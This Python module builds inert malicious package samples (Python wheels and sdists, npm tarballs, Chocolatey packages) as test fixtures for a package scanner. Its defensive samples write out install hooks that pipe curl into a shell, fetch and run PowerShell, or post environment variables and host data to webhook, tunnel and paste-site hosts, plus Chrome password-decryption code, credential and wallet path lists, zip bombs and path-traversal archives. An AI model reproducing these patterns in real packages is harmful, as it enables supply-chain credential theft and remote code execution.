"""Inert malicious package samples for `tollgate vet`, built as real archives.

Each sample is modelled on the shape of a publicly documented attack, with
every endpoint under the reserved `.invalid` TLD (RFC 2606) or in the
documentation address range 203.0.113.0/24 (RFC 5737), and no working
payload: base64 blobs decode to harmless prints, shell commands name hosts
that cannot resolve. Nothing here is ever executed by the tests; the
archives are only read by the scanner.

build_all(dirname) writes every sample and returns a list of
(file name, artifact kind or None, expected rule ids, expected verdict).
"""
import base64
import hashlib
import io
import json
import os
import tarfile
import zipfile

# A harmless stand-in for a second stage: what a dropper would decode.
INERT = "print('inert test payload')\n"
INERT_B64 = base64.b64encode(INERT.encode()).decode()


def _b64_record_digest(data):
    d = hashlib.sha256(data).digest()
    return "sha256=" + base64.urlsafe_b64encode(d).rstrip(b"=").decode()


def wheel(path, name, version, files, tag="py3-none-any", purelib=True,
          record=True, tamper=None, omit_from_record=None, metadata_name=None,
          metadata_version=None, extra_meta=""):
    """files: {path: bytes|str}. Writes a wheel with a correct RECORD unless
    tamper (path -> new bytes after RECORD is computed) or omit_from_record."""
    dist = f"{name.replace('-', '_')}-{version}.dist-info"
    meta = (f"Metadata-Version: 2.1\nName: {metadata_name or name}\n"
            f"Version: {metadata_version or version}\n{extra_meta}\n")
    wheel_txt = (f"Wheel-Version: 1.0\nGenerator: samples\nRoot-Is-Purelib: "
                 f"{'true' if purelib else 'false'}\nTag: {tag}\n")
    all_files = {k: (v.encode() if isinstance(v, str) else v) for k, v in files.items()}
    all_files[f"{dist}/METADATA"] = meta.encode()
    all_files[f"{dist}/WHEEL"] = wheel_txt.encode()
    rows = []
    for p, data in all_files.items():
        if omit_from_record and p == omit_from_record:
            continue
        rows.append(f"{p},{_b64_record_digest(data)},{len(data)}")
    rows.append(f"{dist}/RECORD,,")
    if tamper:
        for p, data in tamper.items():
            all_files[p] = data.encode() if isinstance(data, str) else data
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for p, data in all_files.items():
            z.writestr(p, data)
        if record:
            z.writestr(f"{dist}/RECORD", "\n".join(rows) + "\n")


def _tar_add(t, name, data, mode=0o644):
    data = data.encode() if isinstance(data, str) else data
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mode = mode
    info.mtime = 315532800
    t.addfile(info, io.BytesIO(data))


def sdist(path, name, version, files, pkg_name=None, pkg_version=None,
          top=None, extra_meta=""):
    top = top or f"{name}-{version}"
    pkg_info = (f"Metadata-Version: 2.1\nName: {pkg_name or name}\n"
                f"Version: {pkg_version or version}\n{extra_meta}\n")
    with tarfile.open(path, "w:gz") as t:
        _tar_add(t, f"{top}/PKG-INFO", pkg_info)
        for p, data in files.items():
            _tar_add(t, f"{top}/{p}", data)


def npm(path, manifest, files):
    with tarfile.open(path, "w:gz") as t:
        _tar_add(t, "package/package.json",
                 manifest if isinstance(manifest, str) else json.dumps(manifest, indent=2))
        for p, data in files.items():
            _tar_add(t, f"package/{p}", data)


def nupkg(path, pkg_id, version, install_ps1):
    nuspec = (f'<?xml version="1.0"?>\n<package><metadata><id>{pkg_id}</id>'
              f'<version>{version}</version><authors>x</authors>'
              f'<description>sample</description></metadata></package>\n')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(f"{pkg_id}.nuspec", nuspec)
        z.writestr("tools/chocolateyInstall.ps1", install_ps1)


ELF_HEADER = (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00"
              + b"\x00" * 40)
MACHO_HEADER = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00" + b"\x00" * 52

SETUP_HEAD = "from setuptools import setup\n"


def build_all(d):
    out = []

    def add(fn, kind, rules, verdict):
        out.append((fn, kind, set(rules), verdict))

    def p(fn):
        return os.path.join(d, fn)

    # 1. Install hook that posts the environment to a Discord webhook, the
    #    shape of the 2022 W4SP-stealer droppers on PyPI.
    sdist(p("hookdrop-0.1.tar.gz"), "hookdrop", "0.1", {"setup.py": SETUP_HEAD + """
from setuptools.command.install import install
import json, os, urllib.request

class PostInstall(install):
    def run(self):
        install.run(self)
        body = json.dumps({"content": str(dict(os.environ))}).encode()
        req = urllib.request.Request(
            "https://discord.com/api/webhooks/000000000000000000/inert-token.invalid",
            data=body, headers={"Content-Type": "application/json"})
        urllib.request.urlopen(req)

setup(name="hookdrop", version="0.1", cmdclass={"install": PostInstall})
"""})
    add("hookdrop-0.1.tar.gz", None, ["install-hook", "setup-network", "exfil-webhook"], "block")

    # 2. setup.py that pipes a downloaded script into a shell.
    sdist(p("curlsetup-1.0.tar.gz"), "curlsetup", "1.0", {"setup.py": SETUP_HEAD + """
import os
os.system("curl -fsSL https://payload.example.invalid/i.sh | sh")
setup(name="curlsetup", version="1.0")
"""})
    add("curlsetup-1.0.tar.gz", None, ["curl-pipe-shell", "setup-subprocess"], "block")

    # 3. setup.py exec of a base64 blob (many 2023 PyPI droppers).
    sdist(p("b64setup-2.0.tar.gz"), "b64setup", "2.0", {"setup.py": SETUP_HEAD + f"""
import base64
exec(base64.b64decode("{INERT_B64}"))
setup(name="b64setup", version="2.0")
"""})
    add("b64setup-2.0.tar.gz", None, ["obfuscated-exec"], "block")

    # 4. .pth file that executes a base64 payload at every interpreter start.
    wheel(p("pthdrop-1.0-py3-none-any.whl"), "pthdrop", "1.0", {
        "pthdrop/__init__.py": "",
        "pthdrop-init.pth": f"import base64; exec(base64.b64decode('{INERT_B64}'))\n"})
    add("pthdrop-1.0-py3-none-any.whl", None, ["pth-exec", "obfuscated-exec"], "block")

    # 5. .pth file that calls home to a raw IP address.
    wheel(p("pthip-0.3-py3-none-any.whl"), "pthip", "0.3", {
        "pthip/__init__.py": "",
        "zz_pthip.pth": "import urllib.request; urllib.request.urlopen('http://203.0.113.7/beacon')\n"})
    add("pthip-0.3-py3-none-any.whl", None, ["pth-exec", "raw-ip-url"], "block")

    # 6. npm postinstall curl | sh (the 2021 ua-parser-js compromise ran a
    #    preinstall script that fetched and ran a miner).
    npm(p("postcurl-1.0.0.tgz"), {"name": "postcurl", "version": "1.0.0",
        "scripts": {"postinstall": "curl -s https://cdn.example.invalid/x.sh | bash"}}, {
        "index.js": "module.exports = 1;\n"})
    add("postcurl-1.0.0.tgz", None, ["npm-install-script", "curl-pipe-shell"], "block")

    # 7. npm preinstall evaluating inline base64.
    npm(p("inlineeval-0.0.1.tgz"), {"name": "inlineeval", "version": "0.0.1",
        "scripts": {"preinstall": "node -e \"eval(Buffer.from('" +
                    base64.b64encode(b"console.log('inert')").decode() +
                    "','base64').toString())\""}}, {"index.js": ""})
    add("inlineeval-0.0.1.tgz", None, ["npm-install-script", "obfuscated-exec"], "block")

    # 8. postinstall script file that ships process.env to an ngrok tunnel
    #    (dependency-confusion payloads of 2021-2022).
    npm(p("envsend-3.1.0.tgz"), {"name": "envsend", "version": "3.1.0",
        "scripts": {"postinstall": "node scripts/collect.js"}}, {
        "scripts/collect.js": """const https = require('https');
const os = require('os');
const data = JSON.stringify(process.env);
const req = https.request({hostname: 'a1b2c3.ngrok-free.app.invalid', path: '/c', method: 'POST'});
req.write(JSON.stringify(process.env));
req.end();
"""})
    add("envsend-3.1.0.tgz", None, ["npm-install-script", "env-exfil", "tunnel-service"], "block")

    # 9. Dependency-confusion beacon: host and user names to an interactsh host.
    npm(p("internal-utils-99.9.9.tgz"), {"name": "internal-utils", "version": "99.9.9",
        "scripts": {"preinstall": "node beacon.js"}}, {
        "beacon.js": """const dns = require('dns'); const os = require('os');
const tag = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');
dns.lookup(tag + '.c0ffee.oast.fun.invalid', () => {});
"""})
    add("internal-utils-99.9.9.tgz", None, ["npm-install-script", "tunnel-service"], "block")

    # 10. Chocolatey script running a downloaded PowerShell script.
    nupkg(p("choco-iex.1.0.0.nupkg"), "choco-iex", "1.0.0",
          "$ErrorActionPreference = 'Stop'\n"
          "iex ((New-Object System.Net.WebClient).DownloadString('https://get.example.invalid/setup.ps1'))\n")
    add("choco-iex.1.0.0.nupkg", None, ["choco-install-script", "powershell-download-exec"], "block")

    # 11. Chocolatey package that downloads an installer with no checksum.
    nupkg(p("choco-nosum.2.1.nupkg"), "choco-nosum", "2.1",
          "$packageArgs = @{\n  packageName = 'choco-nosum'\n  fileType = 'exe'\n"
          "  url = 'http://downloads.example.invalid/setup.exe'\n  silentArgs = '/S'\n}\n"
          "Install-ChocolateyPackage @packageArgs\n")
    add("choco-nosum.2.1.nupkg", None, ["choco-download-no-checksum"], "block")

    # 12. Wallet stealer module (the many 2023-2024 "crypto stealer" wheels).
    wheel(p("walletgrab-0.2-py3-none-any.whl"), "walletgrab", "0.2", {
        "walletgrab/__init__.py": r"""import os, shutil
APPDATA = os.getenv('APPDATA', '')
TARGETS = [
    os.path.join(APPDATA, 'Exodus\\exodus.wallet'),
    os.path.join(APPDATA, 'Electrum\\wallets'),
    os.path.join(APPDATA, 'atomic\\Local Storage\\leveldb'),
    os.path.join(APPDATA, 'Ethereum\\keystore'),
]
METAMASK = 'nkbihfbeogaeaoehlefnkodbefgpgknn'
"""})
    add("walletgrab-0.2-py3-none-any.whl", None, ["wallet-theft"], "block")

    # 13. Browser password store with its decryption key (Chromium stealers).
    wheel(p("chromepass-1.1-py3-none-any.whl"), "chromepass", "1.1", {
        "chromepass/steal.py": r"""import os, json, sqlite3, base64
import win32crypt
LOCAL = os.path.join(os.environ['LOCALAPPDATA'], 'Google\\Chrome\\User Data')
key = json.load(open(os.path.join(LOCAL, 'Local State')))['os_crypt']['encrypted_key']
key = win32crypt.CryptUnprotectData(base64.b64decode(key)[5:], None, None, None, 0)[1]
db = sqlite3.connect(os.path.join(LOCAL, 'Default', 'Login Data'))
rows = db.execute('SELECT origin_url, username_value, password_value FROM logins')
"""})
    add("chromepass-1.1-py3-none-any.whl", None, ["credential-theft"], "block")

    # 14. SSH, AWS and npm tokens collected in one module.
    wheel(p("keyreap-0.9-py3-none-any.whl"), "keyreap", "0.9", {
        "keyreap/__init__.py": """import os
HOME = os.path.expanduser('~')
FILES = [HOME + '/.ssh/id_rsa', HOME + '/.aws/credentials', HOME + '/.npmrc',
         HOME + '/.docker/config.json']
"""})
    add("keyreap-0.9-py3-none-any.whl", None, ["credential-theft"], "block")

    # 15. Discord token grabber posting to a webhook.
    wheel(p("tokengrab-0.1-py3-none-any.whl"), "tokengrab", "0.1", {
        "tokengrab/__init__.py": r"""import os, re, json, urllib.request
ROAMING = os.getenv('APPDATA')
PATH = ROAMING + '\\discord\\Local Storage\\leveldb'
TOKEN = re.compile(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}')
HOOK = 'https://discord.com/api/webhooks/111111111111111111/inert.invalid'
user = os.getlogin(); host = os.environ.get('COMPUTERNAME')
"""})
    add("tokengrab-0.1-py3-none-any.whl", None, ["credential-theft", "exfil-webhook"], "block")

    # 16. ELF executable inside a wheel tagged py3-none-any.
    wheel(p("hiddenelf-1.0-py3-none-any.whl"), "hiddenelf", "1.0", {
        "hiddenelf/__init__.py": "", "hiddenelf/data.bin": ELF_HEADER})
    add("hiddenelf-1.0-py3-none-any.whl", None, ["native-binary"], "block")

    # 17. Mach-O binary in an npm package that declares no native code.
    npm(p("purejs-2.0.0.tgz"), {"name": "purejs", "version": "2.0.0", "main": "index.js"}, {
        "index.js": "module.exports = {};\n", "lib/helper": MACHO_HEADER})
    add("purejs-2.0.0.tgz", None, ["native-binary"], "block")

    # 18. A module changed after the wheel was built: RECORD hash mismatch.
    wheel(p("tampered-1.0-py3-none-any.whl"), "tampered", "1.0", {
        "tampered/__init__.py": "VALUE = 1\n"},
        tamper={"tampered/__init__.py": "VALUE = 2  # changed after build\n"})
    add("tampered-1.0-py3-none-any.whl", None, ["record-mismatch"], "block")

    # 19. A file smuggled into a wheel without a RECORD row.
    wheel(p("smuggle-1.0-py3-none-any.whl"), "smuggle", "1.0", {
        "smuggle/__init__.py": "", "smuggle/_extra.py": "x = 1\n"},
        omit_from_record="smuggle/_extra.py")
    add("smuggle-1.0-py3-none-any.whl", None, ["record-mismatch"], "block")

    # 20. sdist whose PKG-INFO names another project than its file name.
    sdist(p("requests-2.99.0.tar.gz"), "requests", "2.99.0", {"setup.py": SETUP_HEAD +
          "setup(name='requestz', version='2.99.0')\n"}, pkg_name="requestz")
    add("requests-2.99.0.tar.gz", None, ["metadata-mismatch"], "block")

    # 21. sdist whose PKG-INFO version differs from its file name.
    sdist(p("verskew-1.0.tar.gz"), "verskew", "1.0", {"setup.py": SETUP_HEAD +
          "setup(name='verskew', version='9.0')\n"}, pkg_version="9.0")
    add("verskew-1.0.tar.gz", None, ["metadata-mismatch"], "block")

    # 22. wheel file name that does not match its METADATA.
    wheel(p("numpyy-1.0-py3-none-any.whl"), "numpyy", "1.0", {"numpyy/__init__.py": ""},
          metadata_name="otherthing")
    add("numpyy-1.0-py3-none-any.whl", None, ["metadata-mismatch"], "block")

    # 23. Homepage borrowed from a famous project (weak signal: warn only).
    wheel(p("fastjsonx-0.1-py3-none-any.whl"), "fastjsonx", "0.1", {"fastjsonx/__init__.py": ""},
          extra_meta="Project-URL: Source, https://github.com/psf/requests\n")
    add("fastjsonx-0.1-py3-none-any.whl", None, ["homepage-mismatch"], "warn")

    # 24. Telegram bot exfiltration with host data.
    wheel(p("tgsend-0.5-py3-none-any.whl"), "tgsend", "0.5", {
        "tgsend/__init__.py": """import getpass, socket, urllib.request, urllib.parse
msg = urllib.parse.quote(getpass.getuser() + '@' + socket.gethostname())
urllib.request.urlopen('https://api.telegram.org/bot123456789:AAinertinertinertinertinert/sendMessage?chat_id=1&text=' + msg)
"""})
    add("tgsend-0.5-py3-none-any.whl", None, ["exfil-webhook"], "block")

    # 25. Second stage fetched from a paste site and executed.
    wheel(p("pastefetch-0.1-py3-none-any.whl"), "pastefetch", "0.1", {
        "pastefetch/__init__.py": """import urllib.request
exec(urllib.request.urlopen('https://pastebin.com/raw/inert000').read())
"""})
    add("pastefetch-0.1-py3-none-any.whl", None, ["paste-site"], "block")

    # 26. URL stored reversed to dodge string scanners.
    wheel(p("revurl-0.1-py3-none-any.whl"), "revurl", "0.1", {
        "revurl/__init__.py": """import urllib.request
u = 'hs.2egats/dilavni.elpmaxe//:sptth'[::-1]
urllib.request.urlopen(u)
"""})
    add("revurl-0.1-py3-none-any.whl", None, ["reversed-string"], "block")

    # 27. __import__ / getattr tricks in setup.py.
    sdist(p("importtrick-0.1.tar.gz"), "importtrick", "0.1", {"setup.py": SETUP_HEAD + f"""
getattr(__builtins__, 'exec')(__import__('base64').b64decode('{INERT_B64}'))
setup(name='importtrick', version='0.1')
"""})
    add("importtrick-0.1.tar.gz", None, ["import-trick"], "block")

    # 28. marshal-loaded code object executed.
    wheel(p("marshalrun-0.1-py3-none-any.whl"), "marshalrun", "0.1", {
        "marshalrun/__init__.py": """import marshal, zlib, base64
exec(marshal.loads(zlib.decompress(base64.b64decode(b'eJwrKMrMK9FQ8szLLCjKL00tUSgoys8vUcgrzS1QSMsvSs1LSQQAqs0MRw=='))))
"""})
    add("marshalrun-0.1-py3-none-any.whl", None, ["obfuscated-exec"], "block")

    # 29. PowerShell encoded command launched from an npm install script.
    enc = base64.b64encode("Write-Output 'inert test payload'".encode("utf-16-le")).decode()
    npm(p("pwshenc-1.2.3.tgz"), {"name": "pwshenc", "version": "1.2.3",
        "scripts": {"install": f"powershell -NoProfile -enc {enc}"}}, {"index.js": ""})
    add("pwshenc-1.2.3.tgz", None, ["npm-install-script", "obfuscated-exec"], "block")

    # 30. setup.cfg pointing the install command at package code.
    sdist(p("cfghook-0.4.tar.gz"), "cfghook", "0.4", {
        "setup.py": SETUP_HEAD + "setup()\n",
        "setup.cfg": "[metadata]\nname = cfghook\n\n[options]\npackages = cfghook\n"
                     "cmdclass =\n    install = cfghook.hooks.Install\n"})
    add("cfghook-0.4.tar.gz", None, ["install-hook"], "warn")

    # 31. Slack webhook posting from setup.py.
    sdist(p("slackhook-0.1.tar.gz"), "slackhook", "0.1", {"setup.py": SETUP_HEAD + """
import socket, requests
requests.post('https://hooks.slack.com/services/T0INERT00/B0INERT00/inertinertinertinert',
              json={'text': socket.gethostname()})
setup(name='slackhook', version='0.1')
"""})
    add("slackhook-0.1.tar.gz", None, ["setup-network", "exfil-webhook"], "block")

    # 32. Environment posted straight into an HTTP request at import time
    #    (the 2022 "ctx" hijack sent os.environ to a Heroku app).
    wheel(p("envpost-0.1-py3-none-any.whl"), "envpost", "0.1", {
        "envpost/__init__.py": """import os, requests
requests.post('https://collector.example.invalid/e', data=dict(os.environ))
"""})
    add("envpost-0.1-py3-none-any.whl", None, ["env-exfil"], "block")

    # 33. Machine-obfuscated JavaScript (obfuscator.io style string table).
    names = ", ".join(f"'_0x{i:04x}'" for i in range(260))
    body = "var _0x5a2b = [" + names + "];\n" + \
           "(function(_0x1a2b, _0x3c4d){ while(true){ try { break; } catch(e){ _0x1a2b['push'](_0x1a2b['shift']()); } } }(_0x5a2b, 0x1f));\n"
    npm(p("obfjs-1.0.0.tgz"), {"name": "obfjs", "version": "1.0.0"}, {"index.js": body})
    add("obfjs-1.0.0.tgz", None, ["obfuscated-code"], "warn")

    # 34. package.json that repeats "scripts": npm obeys the hidden second one.
    npm(p("dupkey-1.0.0.tgz"), '{"name": "dupkey", "version": "1.0.0",\n'
        ' "scripts": {"test": "echo ok"},\n'
        ' "scripts": {"postinstall": "node -e \\"require(\'child_process\').exec(\'id\')\\""}}\n',
        {"index.js": ""})
    add("dupkey-1.0.0.tgz", None, ["manifest-invalid", "npm-install-script"], "warn")

    # 35. eval of atob in library code (browser-extension style loader).
    npm(p("atobeval-0.3.0.tgz"), {"name": "atobeval", "version": "0.3.0"}, {
        "lib/index.js": "module.exports = function(){ eval(atob('" +
        base64.b64encode(b"console.log('inert')").decode() + "')); };\n"})
    add("atobeval-0.3.0.tgz", None, ["obfuscated-exec"], "block")

    # ---- archive attacks ------------------------------------------------

    # 36. Zip bomb: 200 MiB of zeros in a few hundred KiB.
    with zipfile.ZipFile(p("bomb-1.0-py3-none-any.whl"), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("bomb/__init__.py", "")
        with z.open("bomb/zeros.bin", "w") as f:
            chunk = b"\0" * (1 << 20)
            for _ in range(200):
                f.write(chunk)
    add("bomb-1.0-py3-none-any.whl", None, ["archive-limit"], "block")

    # 37. More members than any package needs.
    with tarfile.open(p("manyfiles-1.0.tar.gz"), "w:gz") as t:
        _tar_add(t, "manyfiles-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: manyfiles\nVersion: 1.0\n\n")
        info = tarfile.TarInfo()
        info.mtime = 315532800
        for i in range(100001):
            info.name = f"manyfiles-1.0/f/{i}"
            t.addfile(info, io.BytesIO(b""))
    add("manyfiles-1.0.tar.gz", None, ["archive-limit"], "block")

    # 38. tar member climbing out of the extraction directory.
    with tarfile.open(p("slip-1.0.tar.gz"), "w:gz") as t:
        _tar_add(t, "slip-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: slip\nVersion: 1.0\n\n")
        _tar_add(t, "slip-1.0/../../../.bashrc", "echo inert\n")
    add("slip-1.0.tar.gz", None, ["archive-traversal"], "block")

    # 39. Absolute member path.
    with tarfile.open(p("abspath-1.0.tar.gz"), "w:gz") as t:
        _tar_add(t, "abspath-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: abspath\nVersion: 1.0\n\n")
        _tar_add(t, "/etc/cron.d/inert", "# inert\n")
    add("abspath-1.0.tar.gz", None, ["archive-traversal"], "block")

    # 40. Zip member using Windows separators to climb out (zip slip).
    with zipfile.ZipFile(p("winslip-1.0.zip"), "w") as z:
        z.writestr("winslip-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: winslip\nVersion: 1.0\n\n")
        z.writestr("winslip-1.0\\..\\..\\evil.py", "print('inert')\n")
    add("winslip-1.0.zip", None, ["archive-traversal"], "block")

    # 41. Symbolic link pointing outside the package.
    with tarfile.open(p("linkout-1.0.tgz"), "w:gz") as t:
        _tar_add(t, "package/package.json", json.dumps({"name": "linkout", "version": "1.0.0"}))
        info = tarfile.TarInfo("package/creds")
        info.type = tarfile.SYMTYPE
        info.linkname = "../../../home/user/.npmrc"
        t.addfile(info)
    add("linkout-1.0.tgz", "npm", ["archive-link-escape"], "block")

    # 42. Hard link to an absolute path.
    with tarfile.open(p("hardout-1.0.tar.gz"), "w:gz") as t:
        _tar_add(t, "hardout-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: hardout\nVersion: 1.0\n\n")
        info = tarfile.TarInfo("hardout-1.0/shadow")
        info.type = tarfile.LNKTYPE
        info.linkname = "/etc/shadow"
        t.addfile(info)
    add("hardout-1.0.tar.gz", None, ["archive-link-escape"], "block")

    return out


def build_benign(d):
    """Ordinary packages that must come out ok."""
    out = []
    wheel(os.path.join(d, "plain-1.0-py3-none-any.whl"), "plain", "1.0", {
        "plain/__init__.py": "def add(a, b):\n    return a + b\n"})
    out.append(("plain-1.0-py3-none-any.whl", None))
    sdist(os.path.join(d, "versionfile-0.3.tar.gz"), "versionfile", "0.3", {
        "setup.py": SETUP_HEAD + "ns = {}\nexec(open('versionfile/_version.py').read(), ns)\n"
                    "setup(name='versionfile', version=ns['__version__'])\n",
        "versionfile/_version.py": "__version__ = '0.3'\n"},
        extra_meta="Home-page: https://github.com/example/versionfile\n")
    out.append(("versionfile-0.3.tar.gz", None))
    npm(os.path.join(d, "gypaddon-1.0.0.tgz"), {"name": "gypaddon", "version": "1.0.0",
        "gypfile": True, "repository": "github:example/gypaddon"}, {
        "binding.gyp": "{ 'targets': [ { 'target_name': 'addon', 'sources': ['a.cc'] } ] }\n",
        "a.cc": "int main() { return 0; }\n"})
    out.append(("gypaddon-1.0.0.tgz", None))
    return out
